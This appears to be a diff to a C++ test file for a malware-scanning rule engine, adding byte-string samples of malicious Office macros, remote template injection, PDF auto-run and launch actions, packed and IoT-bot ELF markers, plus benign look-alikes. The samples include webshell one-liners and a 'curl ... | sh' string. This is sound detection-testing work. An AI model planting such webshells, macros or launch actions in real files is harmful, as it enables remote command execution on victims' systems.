@@ -234,6 +234,22 @@ constexpr Sample kSamples[] = {
     {"elf_coin_miner",
      "\x7f"
      "ELF stratum+tcp://pool randomx cryptonight"},
+    {"office_macro_runs", "\xd0\xcf\x11\xe0 Sub AutoOpen() CreateObject(\"WScript.Shell\")"},
+    {"office_macro_stored_packed",
+     "\xd0\xcf\x11\xe0 \x01\x08"
+     "Attribut\x01"
+     "e VB_Nam\x02 Sub Aut\x03oOpen()\x04 x = \"po\x05wershell\""},
+    {"office_template_from_outside",
+     "<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.example/attachedTemplate\" "
+     "Target=\"http://198.51.100.1/t.dotm\" TargetMode=\"External\"/></Relationships>"},
+    {"pdf_runs_script", "%PDF-1.4 1 0 obj <</OpenAction 2 0 R>> 2 0 obj <</S /JavaScript /JS (app.alert)>>"},
+    {"pdf_starts_program", "%PDF-1.4 <</S /Launch /Win <</F (cmd.exe) /P (/c calc)>>>>"},
+    {"elf_upx_packed",
+     "\x7f"
+     "ELF....UPX!"},
+    {"elf_iot_bot",
+     "\x7f"
+     "ELF /bin/busybox /dev/watchdog /dev/misc/watchdog TSource Engine Query"},
     {"asp_eval_request", "<%eval request(\"x\")%>"},
     {"jsp_command_request", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"},
 };
@@ -264,6 +280,13 @@ TEST(OwnRules, spare_those_who_only_talk_about_malware) {
       "INSERT INTO `wp_posts` VALUES (1,'look for <?php system($_GET[\"c\"]); ?> in uploads, curl "
       "http://x.example/a.sh | sh');",
       "<?php\n$expr = $argv[1];\necho eval('return ' . $expr . ';'), PHP_EOL;\n",
+      "\xd0\xcf\x11\xe0 \x01\x08"
+      "Attribut\x01"
+      "e VB_Nam\x02 Sub Wor\x03kbook_Op\x04"
+      "en() Range(\"A1\").Value = 1",
+      "<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.example/hyperlink\" "
+      "Target=\"http://www.example/\" TargetMode=\"External\"/></Relationships>",
+      "%PDF-1.4 1 0 obj <</OpenAction [3 0 R /Fit]>> (how to use /JavaScript)",
       "#!/bin/bash\neval \"$(cat ~/.config/backup.env)\"\ncurl -fsS https://checks.example/ping >/dev/null\n",
   };
   for (const std::string_view bytes : kHonest)
